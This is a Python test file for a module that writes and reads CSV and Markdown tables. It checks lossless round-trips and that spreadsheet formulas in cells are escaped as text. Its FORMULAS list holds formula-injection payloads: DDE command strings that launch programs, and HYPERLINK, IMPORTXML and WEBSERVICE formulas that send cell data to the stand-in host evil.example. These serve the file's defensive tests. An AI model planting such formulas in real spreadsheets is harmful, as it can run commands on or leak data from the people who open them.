"""Tables as text: back without loss whatever is in a cell, and nothing a spreadsheet runs."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.playbook.tables import Rows, commas, marks, read

CELL = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.text(
    "=+-@'\"|\\<br>&#;,\t\r\n \u202eא🫀", max_size=12
)
BODY = st.lists(st.tuples(CELL, CELL), min_size=1, max_size=4)
HEAD = ("Writer", "Steps")


def table(body: list[tuple[str, str]]) -> Rows:
    return (HEAD, *body)


@given(BODY)
@example([("=1+1", "'=1"), ("''", "+"), ("a\r\nb", "\ta"), ('Dr. "O\'Neil", MD', "x;y")])
def test_csv_comes_back_as_it_was(body: list[tuple[str, str]]) -> None:
    assert commas.read(commas.write(table(body)), "Writer") == table(body)


@given(BODY)
@example([("a|b", "a<br>b"), ("\\", "\\|"), (" a ", "&#32;"), ("a\nb", "|")])
def test_markdown_comes_back_as_it_was(body: list[tuple[str, str]]) -> None:
    text = marks.write(table(body))
    assert text.count("\n") == len(body) + 2
    assert read(f"# My letters\n\n{text}", "Writer") == table(body)


LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋")
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"press")', "SUM(A1:A9)", "A1", "DDE(1;2;3)",
    'IMPORTXML("https://evil.example","//a")', 'WEBSERVICE("https://evil.example")', "-2+cmd|'/C x'!'A1'", "@SUM(1)",
)  # fmt: skip
PAYLOADS = [lead + formula for lead in LEADS for formula in FORMULAS]


@given(BODY)
def test_no_cell_of_a_csv_can_be_run(body: list[tuple[str, str]]) -> None:
    for row in csv.reader(io.StringIO(commas.write(table(body)), newline="")):
        assert not any(cell.startswith(tuple(lead[0] for lead in LEADS)) for cell in row)


def test_a_hundred_formulas_in_every_cell_are_text_when_the_file_is_opened_again() -> None:
    """As every spreadsheet decides it: by the first letter of a cell. None is at hand here to open one in."""
    assert len(PAYLOADS) == 100
    body = [(one, other) for one, other in zip(PAYLOADS, PAYLOADS[::-1], strict=True)]
    written = commas.write(table(body))
    opened = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert [tuple(cell[0] for cell in row) for row in opened] == [("'", "'")] * 100
    assert read(written, "Writer") == table(body)


@pytest.mark.parametrize("between", [",", ";", "\t"])
def test_a_spreadsheet_may_put_something_else_between_the_cells(between: str) -> None:
    made = io.StringIO()
    csv.writer(made, delimiter=between).writerows([HEAD, ("Dr. Rao", "2027-04-03 asked\n2027-04-04 agreed")])
    assert read(f"\ufeff{made.getvalue()}", "Writer") == (HEAD, ("Dr. Rao", "2027-04-03 asked\n2027-04-04 agreed"))


@pytest.mark.parametrize("text", ["", "Writer", "a,b\n1,2", "| a | b |\n| --- | --- |", '"Writer', "| Writer |"])
def test_what_is_no_table_with_the_column_is_none(text: str) -> None:
    assert read(text, "Steps") == ()
